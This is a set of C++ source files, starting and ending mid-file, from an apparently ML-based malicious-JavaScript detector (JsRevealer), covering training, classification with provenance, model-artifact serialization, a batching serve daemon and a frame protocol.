    centroid_radius_[row] = rms_radius(cm, j);
    ++row;
  }

  // Interpretability inverse index: nearest inlier vector (with its vocab
  // id) to each surviving centroid.
  central_path_.assign(feature_dim_, std::string());
  auto assign_central = [&](const ml::Matrix& vecs,
                            const std::vector<std::int32_t>& ids) {
    // O(feature_dim * n * d) scan; each feature owns its slots.
    parallel_for_threads(cfg_.threads, feature_dim_, [&](std::size_t f) {
      double best = centroid_nearest_d_[f];
      for (std::size_t r = 0; r < vecs.rows(); ++r) {
        const double dist = ml::squared_distance(centroids_.row(f),
                                                 vecs.row(r), d);
        if (dist < best) {
          best = dist;
          central_path_[f] = std::string(vocab_.key(ids[r]));
        }
      }
      centroid_nearest_d_[f] = best;
    });
  };
  centroid_nearest_d_.assign(feature_dim_,
                             std::numeric_limits<double>::max());
  assign_central(benign_vecs, benign_ids);
  assign_central(malicious_vecs, malicious_ids);

  // ---- Stage 5: featurize the training corpus and fit the classifier ------
  // Cluster-membership features, then (when enabled) the per-script lint
  // summary tail. Both land in disjoint row slots, so the fan-out keeps the
  // bit-identical-at-any-width guarantee.
  trained_ = true;  // featurize() needs the centroids from here on
  ml::Matrix x(n_samples, feature_dim_ + lint_dim_);
  std::vector<int> y(n_samples);
  {
    obs::Span span("core.train.featurize", "core");
    Timer t_wall;
    parallel_for_threads(cfg_.threads, n_samples, [&](std::size_t i) {
      ml::EmbeddedScript emb = model_.embed(script_ids[i]);
      const std::vector<double> f = features_from_embedding(emb);
      std::copy(f.begin(), f.end(), x.row(i));
      if (lint_dim_ != 0) {
        std::copy(lint_vecs[i].begin(), lint_vecs[i].end(),
                  x.row(i) + feature_dim_);
      }
      y[i] = labels[i];
    });
    timings_.embedding.add_wall(t_wall.elapsed_ms());
  }
  scaler_.fit(x);
  scaler_.transform(x);

  Timer t_fit;
  classifier_->fit(x, y);
  timings_.classifier_train.add(t_fit.elapsed_ms() /
                                std::max<std::size_t>(1, x.rows()));
  timings_.classifier_train.add_wall(t_fit.elapsed_ms());
}

std::vector<double> JsRevealer::features_from_embedding(
    const ml::EmbeddedScript& emb, obs::VerdictProvenance* prov) const {
  // Shared kernel over this detector's own storage — the same code a mapped
  // ModelView runs, so heap and artifact feature vectors are bit-identical.
  ClusterParams p;
  p.centroids = centroids_.data().data();
  p.radius = centroid_radius_.data();
  p.benign = centroid_benign_.data();
  p.feature_dim = static_cast<std::uint32_t>(feature_dim_);
  p.dim = static_cast<std::uint32_t>(cfg_.embedding_dim);
  p.binary_features = cfg_.binary_cluster_features;
  return cluster_features(p, emb, prov);
}

std::vector<double> JsRevealer::featurize(const std::string& source) const {
  return featurize(
      analysis::ScriptAnalysis(source, cfg_.parse_limits, cfg_.deobfuscate));
}

std::vector<double> JsRevealer::featurize(
    const analysis::ScriptAnalysis& analysis) const {
  obs::VerdictProvenance* prov = analysis.provenance();
  const auto pcs = extract(analysis, /*timed=*/true);

  Timer t_embed;
  const auto ids = to_ids(pcs);
  ml::EmbeddedScript emb = model_.embed(ids);
  const double embed_ms = t_embed.elapsed_ms();
  {
    std::lock_guard<std::mutex> lock(timing_mu_);
    timings_.embedding.add(embed_ms);
  }

  std::vector<double> f = features_from_embedding(emb, prov);
  if (lint_dim_ != 0) {
    // Shares the analysis' memoized AST/scope/data-flow with extract():
    // the lint tail costs no second parse.
    Timer t_lint;
    const lint::LintResult lr = linter_.lint(analysis);
    const std::vector<double> lf = lint::lint_feature_vector(lr);
    f.insert(f.end(), lf.begin(), lf.end());
    if (prov != nullptr) {
      prov->stage_ms.lint = t_lint.elapsed_ms();
      prov->lint_malice_diags = 0;
      prov->lint_hygiene_diags = 0;
      prov->lint_rules_fired.clear();
      for (const lint::Diagnostic& diag : lr.diagnostics) {
        if (diag.category == lint::Category::kMalice) {
          ++prov->lint_malice_diags;
        } else {
          ++prov->lint_hygiene_diags;
        }
        prov->lint_rules_fired.push_back(diag.rule_id);
      }
      std::sort(prov->lint_rules_fired.begin(), prov->lint_rules_fired.end());
      prov->lint_rules_fired.erase(
          std::unique(prov->lint_rules_fired.begin(),
                      prov->lint_rules_fired.end()),
          prov->lint_rules_fired.end());
    }
  }
  if (prov != nullptr) {
    prov->source_bytes = analysis.source().size();
    prov->path_count = pcs.size();
    prov->known_path_count = static_cast<std::size_t>(
        std::count_if(ids.begin(), ids.end(),
                      [](std::int32_t id) { return id >= 0; }));
    prov->stage_ms.embedding = embed_ms;
    prov->train_clusters_removed = clusters_removed_;
  }
  scaler_.transform_row(f.data());
  return f;
}

int JsRevealer::classify(const std::string& source) const {
  return classify(
      analysis::ScriptAnalysis(source, cfg_.parse_limits, cfg_.deobfuscate));
}

int JsRevealer::classify(const analysis::ScriptAnalysis& analysis) const {
  obs::Span span("core.classify", "core");
  obs::VerdictProvenance* prov = analysis.provenance();
  if (prov != nullptr) {
    prov->detector = name();
    prov->source_bytes = analysis.source().size();
    prov->train_clusters_removed = clusters_removed_;
  }
  if (!trained_) {
    if (prov != nullptr) prov->verdict = 1;
    return record_verdict(1);
  }
  const int verdict = analysis.classify_or_malicious([&]() -> int {
    try {
      const std::vector<double> f = featurize(analysis);
      Timer t;
      const int v = classifier_->predict(f.data());
      const double predict_ms = t.elapsed_ms();
      {
        std::lock_guard<std::mutex> lock(timing_mu_);
        timings_.classifying.add(predict_ms);
      }
      if (prov != nullptr) prov->stage_ms.classify = predict_ms;
      return v;
    } catch (const std::exception&) {
      return 1;  // degenerate input that survives the parse → same verdict
    }
  });
  if (prov != nullptr) {
    prov->verdict = verdict;
    prov->parse_failed = analysis.parse_failed();
    if (prov->parse_failed) {
      prov->parse_error = analysis.parse_error();
      prov->parse_limit_trip = analysis.parse_limit_trip();
    }
  }
  return record_verdict(verdict);
}

obs::VerdictProvenance JsRevealer::explain(const std::string& source) const {
  analysis::ScriptAnalysis analysis(source, cfg_.parse_limits,
                                    cfg_.deobfuscate);
  analysis.enable_provenance();
  classify(analysis);
  return *analysis.provenance();
}

std::vector<int> JsRevealer::classify_all(
    const std::vector<std::string>& sources) const {
  // Inference is read-only on the trained model (classify/featurize are
  // const and internally synchronized on the timing sink), so scripts fan
  // out independently with verdicts written to disjoint slots.
  std::vector<int> verdicts(sources.size(), 1);
  obs::Span span("core.classify_all", "core");
  {
    std::lock_guard<std::mutex> lock(timing_mu_);
    timings_.reset_inference();  // this batch's stages only (see StageTimings)
  }
  Timer t_wall;
  parallel_for_threads(cfg_.threads, sources.size(), [&](std::size_t i) {
    verdicts[i] = classify(sources[i]);
  });
  {
    std::lock_guard<std::mutex> lock(timing_mu_);
    timings_.classifying.add_wall(t_wall.elapsed_ms());
  }
  return verdicts;
}

std::vector<int> JsRevealer::classify_all(
    const analysis::AnalyzedCorpus& corpus) const {
  std::vector<int> verdicts(corpus.size(), 1);
  obs::Span span("core.classify_all", "core");
  {
    std::lock_guard<std::mutex> lock(timing_mu_);
    timings_.reset_inference();  // this batch's stages only (see StageTimings)
  }
  Timer t_wall;
  parallel_for_threads(cfg_.threads, corpus.size(), [&](std::size_t i) {
    verdicts[i] = classify(*corpus.scripts[i]);
  });
  {
    std::lock_guard<std::mutex> lock(timing_mu_);
    timings_.classifying.add_wall(t_wall.elapsed_ms());
  }
  return verdicts;
}

ml::Metrics JsRevealer::evaluate(const dataset::Corpus& corpus) const {
  std::vector<std::string> sources;
  std::vector<int> truth;
  sources.reserve(corpus.samples.size());
  truth.reserve(corpus.samples.size());
  for (const auto& s : corpus.samples) {
    sources.push_back(s.source);
    truth.push_back(s.label);
  }
  return ml::compute_metrics(truth, classify_all(sources));
}

ml::Metrics JsRevealer::evaluate(const analysis::AnalyzedCorpus& corpus) const {
  return ml::compute_metrics(corpus.labels, classify_all(corpus));
}

std::vector<FeatureReportEntry> JsRevealer::feature_report(int n) const {
  std::vector<FeatureReportEntry> out;
  const auto* forest = dynamic_cast<const ml::RandomForest*>(classifier_.get());
  if (forest == nullptr || !trained_) return out;

  const std::vector<double> imp = forest->feature_importances();
  std::vector<std::size_t> order(imp.size());
  std::iota(order.begin(), order.end(), 0);
  std::sort(order.begin(), order.end(), [&imp](std::size_t a, std::size_t b) {
    return imp[a] > imp[b];
  });

  for (std::size_t i = 0; i < order.size() && out.size() < static_cast<std::size_t>(n); ++i) {
    FeatureReportEntry e;
    e.feature_index = static_cast<int>(order[i]);
    e.importance = imp[order[i]];
    if (order[i] < feature_dim_) {
      e.from_benign = benign_bit(centroid_benign_.data(), order[i]);
      e.central_path = central_path_[order[i]];
    } else {
      // Lint-tail feature: no centroid behind it, label it by name.
      e.from_benign = false;
      e.central_path =
          "lint:" + lint::lint_feature_names()[order[i] - feature_dim_];
    }
    out.push_back(std::move(e));
  }
  return out;
}

std::vector<double> JsRevealer::sse_curve(const dataset::Corpus& corpus,
                                          int label, int k_lo, int k_hi) {
  // Requires a trained embedding model + vocab (call train() first, or this
  // trains on the given corpus implicitly).
  if (!model_.trained()) train(corpus);

  Rng rng(cfg_.seed + 7);
  // Extraction fans out per script; id collection stays serial in sample
  // order so the shuffle below consumes an order-independent sequence.
  std::vector<std::vector<std::int32_t>> per_script(corpus.samples.size());
  parallel_for_threads(
      cfg_.threads, corpus.samples.size(), [&](std::size_t i) {
        const auto& s = corpus.samples[i];
        if (s.label != label) return;
        std::vector<paths::PathContext> pcs;
        try {
          const analysis::ScriptAnalysis a(s.source, cfg_.parse_limits,
                                           cfg_.deobfuscate);
          pcs = extract(a, /*timed=*/false);
        } catch (const std::exception&) {
          return;
        }
        for (const auto& pc : pcs) {
          const std::int32_t id = vocab_.lookup(pc);
          if (id >= 0) per_script[i].push_back(id);
        }
      });
  std::vector<std::int32_t> sampled_ids;
  for (const auto& ids : per_script) {
    sampled_ids.insert(sampled_ids.end(), ids.begin(), ids.end());
  }
  rng.shuffle(sampled_ids);
  if (sampled_ids.size() > cfg_.cluster_sample_per_class) {
    sampled_ids.resize(cfg_.cluster_sample_per_class);
  }
  const auto d = static_cast<std::size_t>(cfg_.embedding_dim);
  ml::Matrix vecs(sampled_ids.size(), d);
  parallel_for_threads(cfg_.threads, sampled_ids.size(), [&](std::size_t r) {
    const std::vector<double> e = model_.path_embedding(sampled_ids[r]);
    std::copy(e.begin(), e.end(), vecs.row(r));
  });

  std::vector<double> sse;
  for (int k = k_lo; k <= k_hi; ++k) {
    ml::KMeansConfig kc;
    kc.k = k;
    kc.seed = cfg_.seed + static_cast<std::uint64_t>(k);
    kc.threads = cfg_.threads;
    sse.push_back(ml::bisecting_kmeans(vecs, kc).sse);
  }
  return sse;
}

}  // namespace jsrev::core
