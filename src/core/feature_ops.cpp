#include "core/feature_ops.h"

#include <cmath>

#include "ml/matrix.h"
#include "ml/model_view_ops.h"

namespace jsrev::core {

std::vector<double> cluster_features(const ClusterParams& p,
                                     const ml::EmbeddedScript& emb,
                                     obs::VerdictProvenance* prov) {
  std::vector<double> f(p.feature_dim, 0.0);
  const auto d = static_cast<std::size_t>(p.dim);
  std::size_t outside = 0;
  for (std::size_t i = 0; i < emb.embeddings.rows(); ++i) {
    const int c = ml::nearest_centroid_raw(p.centroids, p.feature_dim, d,
                                           emb.embeddings.row(i));
    // Paths far from every cluster belong to none of them.
    const double dist = std::sqrt(ml::squared_distance(
        emb.embeddings.row(i),
        p.centroids + static_cast<std::size_t>(c) * d, d));
    const double radius = p.radius[static_cast<std::size_t>(c)];
    if (radius > 0 && dist > 4.0 * radius) {
      ++outside;
      continue;
    }
    if (p.binary_features) {
      f[static_cast<std::size_t>(c)] = 1.0;  // ablation: occurrence only
    } else {
      f[static_cast<std::size_t>(c)] += emb.weights[i];
    }
  }
  if (prov != nullptr) {
    prov->paths_outside_clusters = outside;
    prov->cluster_attention.clear();
    for (std::size_t c = 0; c < p.feature_dim; ++c) {
      if (f[c] == 0.0) continue;  // record only clusters the script touched
      obs::ClusterAttention ca;
      ca.feature_index = static_cast<int>(c);
      ca.from_benign = benign_bit(p.benign, c);
      ca.mass = f[c];
      prov->cluster_attention.push_back(ca);
    }
  }
  return f;
}

}  // namespace jsrev::core
