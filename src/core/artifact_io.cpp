// JSRM v3 artifact writer: serializes a trained JsRevealer into the
// page-aligned, checksummed section layout of core/model_format.h.
//
// The writer gathers every parameter block in its flat training-time form
// (the vocabulary's three buffers verbatim, the attention matrices' backing
// vectors, the packed benign bitset, the flattened forest) and lays them out
// back to back on 4 KiB boundaries with zero-filled gaps. Nothing here is
// sampled, timed, or randomized, so a deterministic model produces
// byte-identical artifacts at any thread width.
#include <cstring>
#include <fstream>
#include <stdexcept>
#include <string_view>

#include "core/jsrevealer.h"
#include "core/model_format.h"
#include "ml/decision_tree.h"
#include "util/hash.h"

namespace jsrev::core {

namespace {

void pad_to_align(std::vector<std::uint8_t>* buf) {
  const std::size_t aligned =
      (buf->size() + fmt::kSectionAlign - 1) / fmt::kSectionAlign *
      fmt::kSectionAlign;
  buf->resize(aligned, 0);
}

void add_section(std::vector<std::uint8_t>* buf,
                 std::vector<fmt::SectionRec>* sections, fmt::SectionId id,
                 const void* payload, std::size_t bytes) {
  pad_to_align(buf);
  fmt::SectionRec rec;
  rec.id = static_cast<std::uint32_t>(id);
  rec.offset = buf->size();
  rec.size = bytes;
  rec.checksum = fnv1a64_begin();
  if (bytes != 0) {
    rec.checksum = fnv1a64(
        std::string_view(static_cast<const char*>(payload), bytes));
    const auto* b = static_cast<const std::uint8_t*>(payload);
    buf->insert(buf->end(), b, b + bytes);
  }
  sections->push_back(rec);
}

template <typename T>
void add_vector_section(std::vector<std::uint8_t>* buf,
                        std::vector<fmt::SectionRec>* sections,
                        fmt::SectionId id, const std::vector<T>& v) {
  add_section(buf, sections, id, v.data(), v.size() * sizeof(T));
}

}  // namespace

std::vector<std::uint8_t> JsRevealer::save_artifact() const {
  if (!trained_) {
    throw std::logic_error("JsRevealer::save_artifact: detector is not trained");
  }
  const auto* forest =
      dynamic_cast<const ml::RandomForest*>(classifier_.get());
  if (forest == nullptr) {
    throw std::logic_error(
        "JsRevealer::save_artifact: persistence supports the random-forest "
        "classifier only");
  }

  // Flatten the forest and the interpretability index up front; every other
  // block already lives in its serialized form.
  std::vector<ml::ForestNodeRec> forest_nodes;
  std::vector<std::uint32_t> forest_offsets;
  forest->export_flat(&forest_nodes, &forest_offsets);

  std::string central_blob;
  std::vector<std::uint32_t> central_offsets;
  central_offsets.reserve(central_path_.size() + 1);
  central_offsets.push_back(0);
  for (const std::string& p : central_path_) {
    central_blob += p;
    central_offsets.push_back(static_cast<std::uint32_t>(central_blob.size()));
  }

  fmt::ArtifactHeader hdr;
  std::memcpy(hdr.magic, fmt::kMagic, sizeof(hdr.magic));
  hdr.section_count = fmt::kSectionCount;
  if (cfg_.path.use_dataflow) hdr.flags |= fmt::kFlagUseDataflow;
  if (cfg_.deobfuscate) hdr.flags |= fmt::kFlagDeobfuscate;
  if (cfg_.binary_cluster_features) {
    hdr.flags |= fmt::kFlagBinaryClusterFeatures;
  }
  hdr.embedding_dim = static_cast<std::uint32_t>(cfg_.embedding_dim);
  hdr.feature_dim = static_cast<std::uint32_t>(feature_dim_);
  hdr.lint_dim = static_cast<std::uint32_t>(lint_dim_);
  hdr.clusters_removed = static_cast<std::uint32_t>(clusters_removed_);
  hdr.vocab_size = static_cast<std::uint32_t>(vocab_.size());
  hdr.vocab_table_size = static_cast<std::uint32_t>(vocab_.table().size());
  hdr.n_trees = static_cast<std::uint32_t>(forest->tree_count());
  hdr.path_max_length = static_cast<std::uint32_t>(cfg_.path.max_length);
  hdr.path_max_width = static_cast<std::uint32_t>(cfg_.path.max_width);
  hdr.max_vocab = cfg_.max_vocab;

  std::vector<std::uint8_t> buf(sizeof(fmt::ArtifactHeader) +
                                    fmt::kSectionCount * sizeof(fmt::SectionRec),
                                0);
  std::vector<fmt::SectionRec> sections;
  sections.reserve(fmt::kSectionCount);

  add_vector_section(&buf, &sections, fmt::SectionId::kVocabEntries,
                     vocab_.entries());
  add_vector_section(&buf, &sections, fmt::SectionId::kVocabTable,
                     vocab_.table());
  add_section(&buf, &sections, fmt::SectionId::kVocabBlob,
              vocab_.blob().data(), vocab_.blob().size());
  add_vector_section(&buf, &sections, fmt::SectionId::kAttentionW,
                     model_.weight_matrix().data());
  add_vector_section(&buf, &sections, fmt::SectionId::kAttentionA,
                     model_.attention_vector());
  add_vector_section(&buf, &sections, fmt::SectionId::kAttentionU,
                     model_.head_matrix().data());
  add_vector_section(&buf, &sections, fmt::SectionId::kAttentionBias,
                     model_.head_bias());
  add_vector_section(&buf, &sections, fmt::SectionId::kCentroids,
                     centroids_.data());
  add_vector_section(&buf, &sections, fmt::SectionId::kCentroidRadius,
                     centroid_radius_);
  add_vector_section(&buf, &sections, fmt::SectionId::kCentroidBenign,
                     centroid_benign_);
  add_vector_section(&buf, &sections, fmt::SectionId::kCentralPathOffsets,
                     central_offsets);
  add_section(&buf, &sections, fmt::SectionId::kCentralPathBlob,
              central_blob.data(), central_blob.size());
  add_vector_section(&buf, &sections, fmt::SectionId::kScalerMin,
                     scaler_.fitted_min());
  add_vector_section(&buf, &sections, fmt::SectionId::kScalerMax,
                     scaler_.fitted_max());
  add_vector_section(&buf, &sections, fmt::SectionId::kForestOffsets,
                     forest_offsets);
  add_vector_section(&buf, &sections, fmt::SectionId::kForestNodes,
                     forest_nodes);

  hdr.file_size = buf.size();
  std::memcpy(buf.data(), &hdr, sizeof(hdr));
  std::memcpy(buf.data() + sizeof(hdr), sections.data(),
              sections.size() * sizeof(fmt::SectionRec));
  return buf;
}

void JsRevealer::save_artifact_file(const std::string& path) const {
  const std::vector<std::uint8_t> bytes = save_artifact();
  std::ofstream out(path, std::ios::binary | std::ios::trunc);
  if (!out) throw std::runtime_error("cannot open for writing: " + path);
  out.write(reinterpret_cast<const char*>(bytes.data()),
            static_cast<std::streamsize>(bytes.size()));
  if (!out) throw std::runtime_error("write failed: " + path);
}

}  // namespace jsrev::core
