#include "serve/serve.h"

#include <algorithm>
#include <chrono>
#include <stdexcept>
#include <utility>
#include <vector>

#include <cstdio>

#include "analysis/script_analysis.h"
#include "obs/log.h"
#include "obs/trace.h"
#include "util/serialize.h"
#include "util/thread_pool.h"
#include "util/timer.h"
#include "util/version.h"

namespace jsrev::serve {

// ---------------------------------------------------------------------------
// ServeModel

ServeModel::ServeModel(const std::string& path) {
  try {
    auto view = std::make_unique<core::ModelView>();
    view->map_file(path);
    view_ = std::move(view);
    return;
  } catch (const ser::ModelFormatError&) {
    // Not a v3 artifact — fall through to the stream loader.
  }
  try {
    auto heap = std::make_unique<core::JsRevealer>();
    heap->load_file(path);
    heap_ = std::move(heap);
  } catch (const std::exception& e) {
    throw std::runtime_error("cannot open model '" + path +
                             "' as artifact or stream: " + e.what());
  }
}

std::string ServeModel::name() const {
  return view_ != nullptr ? view_->name() : heap_->name();
}

int ServeModel::classify(const analysis::ScriptAnalysis& analysis) const {
  return view_ != nullptr ? view_->classify(analysis)
                          : heap_->classify(analysis);
}

js::ParseLimits ServeModel::parse_limits() const {
  return view_ != nullptr ? view_->parse_limits()
                          : heap_->config().parse_limits;
}

bool ServeModel::deobfuscate() const {
  return view_ != nullptr ? view_->deobfuscate() : heap_->config().deobfuscate;
}

ServeOptions ServeModel::options() const {
  ServeOptions opts;
  opts.limits = parse_limits();
  opts.deobfuscate = deobfuscate();
  return opts;
}

std::string ServeModel::format() const {
  return view_ != nullptr ? "jsrm-mapped" : "stream";
}

std::uint32_t ServeModel::format_version() const {
  return view_ != nullptr ? view_->info().header.version : 0;
}

std::size_t ServeModel::lint_dim() const {
  return view_ != nullptr ? view_->info().header.lint_dim
                          : heap_->lint_feature_count();
}

std::size_t ServeModel::feature_count() const {
  return view_ != nullptr ? view_->feature_count() : heap_->feature_count();
}

void register_build_info(const ServeModel& model,
                         const std::string& model_path) {
  auto& reg = obs::metrics();
  reg.gauge("build_info", {{"version", kVersionString}},
            {obs::Unit::kCount, false,
             "Build identity; value is always 1, identity in labels"})
      ->set(1);
  reg.gauge("model_info",
            {{"path", model_path},
             {"format", model.format()},
             {"format_version", std::to_string(model.format_version())},
             {"lint_dim", std::to_string(model.lint_dim())},
             {"deobfuscate", model.deobfuscate() ? "on" : "off"}},
            {obs::Unit::kCount, false,
             "Served model identity; value is always 1, identity in labels"})
      ->set(1);
}

// ---------------------------------------------------------------------------
// Batcher

namespace {

std::vector<double> batch_size_bounds() {
  return {1, 2, 4, 8, 16, 32, 64, 128, 256};
}

std::vector<double> millis_bounds() {
  return {0.1, 0.25, 0.5, 1, 2.5, 5, 10, 25, 50, 100, 250, 500, 1000};
}

}  // namespace

Batcher::Batcher(const ServeModel& model, ServeOptions opts)
    : model_(model), opts_(opts) {
  auto& reg = obs::metrics();
  requests_ = reg.counter("serve.requests");
  rejected_full_ =
      reg.counter("serve.rejected", {{"reason", "queue-full"}},
                  obs::kScheduleDependent);
  rejected_draining_ =
      reg.counter("serve.rejected", {{"reason", "draining"}},
                  obs::kScheduleDependent);
  queue_depth_gauge_ =
      reg.gauge("serve.queue_depth", {}, obs::kScheduleDependent);
  batch_size_ = reg.histogram("serve.batch_size", batch_size_bounds(), {},
                              obs::kScheduleDependent);
  stage_analyze_ms_ = reg.histogram("serve.stage_ms", millis_bounds(),
                                    {{"stage", "analyze"}},
                                    obs::kScheduleDependentMillis);
  stage_classify_ms_ = reg.histogram("serve.stage_ms", millis_bounds(),
                                     {{"stage", "classify"}},
                                     obs::kScheduleDependentMillis);
  latency_ms_ = reg.histogram("serve.latency_ms", millis_bounds(), {},
                              obs::kScheduleDependentMillis);
  worker_ = std::thread([this] { worker_loop(); });
}

Batcher::~Batcher() { shutdown(); }

void Batcher::submit(ServeRequest req, Completion done) {
  requests_->add();
  const char* reject = nullptr;
  {
    std::lock_guard<std::mutex> lock(mu_);
    if (stopping_) {
      rejected_draining_->add();
      reject = "draining";
    } else if (queue_.size() >= opts_.max_queue) {
      rejected_full_->add();
      reject = "queue full";
    } else {
      Pending p;
      p.enqueued = std::chrono::steady_clock::now();
      if (obs::Tracer::enabled()) p.trace_enqueue_us = obs::Tracer::now_us();
      p.req = std::move(req);
      p.done = std::move(done);
      queue_.push_back(std::move(p));
      queue_depth_gauge_->set(static_cast<std::int64_t>(queue_.size()));
    }
  }
  if (reject != nullptr) {
    // Rejections are the overload signal operators grep for; bounded so a
    // saturated daemon logs a trickle, not one line per turned-away request.
    static obs::LogRateLimit rl(/*per_sec=*/2.0, /*burst=*/10.0);
    obs::LogRecord(obs::LogLevel::kWarn, "serve.rejected", rl)
        .kv("request_id", req.id)
        .kv("reason", reject);
    ServeResponse resp;
    resp.id = req.id;
    resp.rejected = true;
    resp.error = reject;
    done(std::move(resp));
    return;
  }
  work_cv_.notify_one();
}

void Batcher::drain() {
  std::unique_lock<std::mutex> lock(mu_);
  drain_cv_.wait(lock, [this] { return queue_.empty() && in_flight_ == 0; });
}

void Batcher::shutdown() {
  {
    std::lock_guard<std::mutex> lock(mu_);
    if (stopping_ && !worker_.joinable()) return;
    stopping_ = true;
  }
  work_cv_.notify_all();
  if (worker_.joinable()) worker_.join();
}

std::size_t Batcher::queue_depth() const {
  std::lock_guard<std::mutex> lock(mu_);
  return queue_.size() + in_flight_;
}

void Batcher::worker_loop() {
  for (;;) {
    std::vector<Pending> batch;
    {
      std::unique_lock<std::mutex> lock(mu_);
      work_cv_.wait(lock, [this] { return stopping_ || !queue_.empty(); });
      if (queue_.empty()) return;  // stopping and fully drained
      // Greedy coalescing: take everything pending, capped at max_batch.
      const std::size_t take = std::min(queue_.size(), opts_.max_batch);
      batch.reserve(take);
      for (std::size_t i = 0; i < take; ++i) {
        batch.push_back(std::move(queue_.front()));
        queue_.pop_front();
      }
      in_flight_ = batch.size();
      queue_depth_gauge_->set(static_cast<std::int64_t>(queue_.size()));
    }
    run_batch(std::move(batch));
    {
      std::lock_guard<std::mutex> lock(mu_);
      in_flight_ = 0;
    }
    drain_cv_.notify_all();
  }
}

void Batcher::run_batch(std::vector<Pending> batch) {
  const std::size_t n = batch.size();
  batch_size_->observe(static_cast<double>(n));

  // Request-correlated queue-wait spans: the gap between enqueue and the
  // moment the worker picked the request up. Recorded retroactively from the
  // stamp submit() took, so tracing must have been live at enqueue time.
  if (obs::Tracer::enabled()) {
    const std::int64_t picked_us = obs::Tracer::now_us();
    for (const Pending& p : batch) {
      if (p.trace_enqueue_us < 0) continue;
      char name[32];
      std::snprintf(name, sizeof name, "req %u queue", p.req.id);
      obs::Tracer::global().record(name, "serve", p.trace_enqueue_us,
                                   picked_us);
    }
  }

  // Stage 1: build + warm one ScriptAnalysis per request in parallel, with
  // the model's exact frontend configuration (the bit-identity contract).
  std::vector<std::unique_ptr<analysis::ScriptAnalysis>> analyses(n);
  {
    const Timer t;
    for (std::size_t i = 0; i < n; ++i) {
      analyses[i] = std::make_unique<analysis::ScriptAnalysis>(
          std::move(batch[i].req.source), opts_.limits, opts_.deobfuscate);
      if (batch[i].req.want_provenance) analyses[i]->enable_provenance();
    }
    parallel_for_threads(opts_.threads, n, [&](std::size_t i) {
      char name[32];
      std::snprintf(name, sizeof name, "req %u analyze", batch[i].req.id);
      obs::Span span(name, "serve");
      analyses[i]->parse_failed();  // forces the parse (failure is a value)
    });
    stage_analyze_ms_->observe(t.elapsed_ms());
  }

  // Stage 2: classify in parallel. Writes are disjoint per index, so
  // verdicts are bit-identical to the serial path at any width.
  std::vector<ServeResponse> responses(n);
  {
    const Timer t;
    parallel_for_threads(opts_.threads, n, [&](std::size_t i) {
      char name[32];
      std::snprintf(name, sizeof name, "req %u classify", batch[i].req.id);
      obs::Span span(name, "serve");
      ServeResponse& resp = responses[i];
      resp.id = batch[i].req.id;
      resp.parse_failed = analyses[i]->parse_failed();
      resp.verdict = model_.classify(*analyses[i]);
      if (batch[i].req.want_provenance &&
          analyses[i]->provenance() != nullptr) {
        analyses[i]->provenance()->request_id = batch[i].req.id;
        resp.provenance_json = analyses[i]->provenance()->to_json();
      }
    });
    stage_classify_ms_->observe(t.elapsed_ms());
  }

  const auto now = std::chrono::steady_clock::now();
  for (std::size_t i = 0; i < n; ++i) {
    const double latency_ms =
        std::chrono::duration<double, std::milli>(now - batch[i].enqueued)
            .count();
    latency_ms_->observe(latency_ms);
    if (opts_.slow_ms > 0.0 && latency_ms >= opts_.slow_ms) {
      static obs::LogRateLimit rl(/*per_sec=*/5.0, /*burst=*/20.0);
      obs::LogRecord(obs::LogLevel::kWarn, "serve.slow_request", rl)
          .kv("request_id", batch[i].req.id)
          .kv("latency_ms", latency_ms)
          .kv("batch_size", static_cast<std::uint64_t>(n))
          .kv("parse_failed", responses[i].parse_failed)
          .kv("verdict", responses[i].verdict);
    }
    batch[i].done(std::move(responses[i]));
  }
}

}  // namespace jsrev::serve
