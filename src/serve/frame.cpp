#include "serve/frame.h"

namespace jsrev::serve {
namespace {

void put_u32(std::uint32_t v, std::string* out) {
  out->push_back(static_cast<char>(v & 0xff));
  out->push_back(static_cast<char>((v >> 8) & 0xff));
  out->push_back(static_cast<char>((v >> 16) & 0xff));
  out->push_back(static_cast<char>((v >> 24) & 0xff));
}

std::uint32_t get_u32(std::string_view buf, std::size_t off) {
  return static_cast<std::uint32_t>(static_cast<unsigned char>(buf[off])) |
         (static_cast<std::uint32_t>(static_cast<unsigned char>(buf[off + 1]))
          << 8) |
         (static_cast<std::uint32_t>(static_cast<unsigned char>(buf[off + 2]))
          << 16) |
         (static_cast<std::uint32_t>(static_cast<unsigned char>(buf[off + 3]))
          << 24);
}

bool known_type(std::uint8_t t) {
  switch (static_cast<FrameType>(t)) {
    case FrameType::kClassify:
    case FrameType::kPing:
    case FrameType::kStats:
    case FrameType::kQuit:
    case FrameType::kVerdict:
    case FrameType::kPong:
    case FrameType::kStatsJson:
    case FrameType::kBye:
    case FrameType::kError:
      return true;
  }
  return false;
}

}  // namespace

void append_frame(const Frame& f, std::string* out) {
  out->reserve(out->size() + kFrameHeaderBytes + f.payload.size());
  out->push_back(kMagic0);
  out->push_back(kMagic1);
  out->push_back(static_cast<char>(f.type));
  out->push_back(static_cast<char>(f.flags));
  put_u32(f.id, out);
  put_u32(static_cast<std::uint32_t>(f.payload.size()), out);
  out->append(f.payload);
}

std::string encode_frame(const Frame& f) {
  std::string out;
  append_frame(f, &out);
  return out;
}

std::string_view decode_status_name(DecodeStatus s) noexcept {
  switch (s) {
    case DecodeStatus::kOk: return "ok";
    case DecodeStatus::kNeedMore: return "need-more";
    case DecodeStatus::kBadMagic: return "bad-magic";
    case DecodeStatus::kBadType: return "bad-type";
    case DecodeStatus::kTooLarge: return "too-large";
  }
  return "?";
}

DecodeStatus decode_frame(std::string_view buf, std::size_t max_payload,
                          Frame* out, std::size_t* consumed) {
  *consumed = 0;
  // Magic is checked as soon as it can be, so garbage fails fast instead of
  // waiting for 12 bytes that will never parse.
  if (!buf.empty() && buf[0] != kMagic0) return DecodeStatus::kBadMagic;
  if (buf.size() >= 2 && buf[1] != kMagic1) return DecodeStatus::kBadMagic;
  if (buf.size() < kFrameHeaderBytes) return DecodeStatus::kNeedMore;

  const auto type_byte = static_cast<std::uint8_t>(buf[2]);
  const auto flags = static_cast<std::uint8_t>(buf[3]);
  const std::uint32_t id = get_u32(buf, 4);
  const std::uint32_t length = get_u32(buf, 8);

  out->type = static_cast<FrameType>(type_byte);
  out->flags = flags;
  out->id = id;
  out->payload.clear();

  if (length > max_payload) return DecodeStatus::kTooLarge;
  if (!known_type(type_byte)) return DecodeStatus::kBadType;
  if (buf.size() < kFrameHeaderBytes + length) return DecodeStatus::kNeedMore;

  out->payload.assign(buf.substr(kFrameHeaderBytes, length));
  *consumed = kFrameHeaderBytes + length;
  return DecodeStatus::kOk;
}

}  // namespace jsrev::serve
