// Batching classification core of the jsr_serve daemon.
//
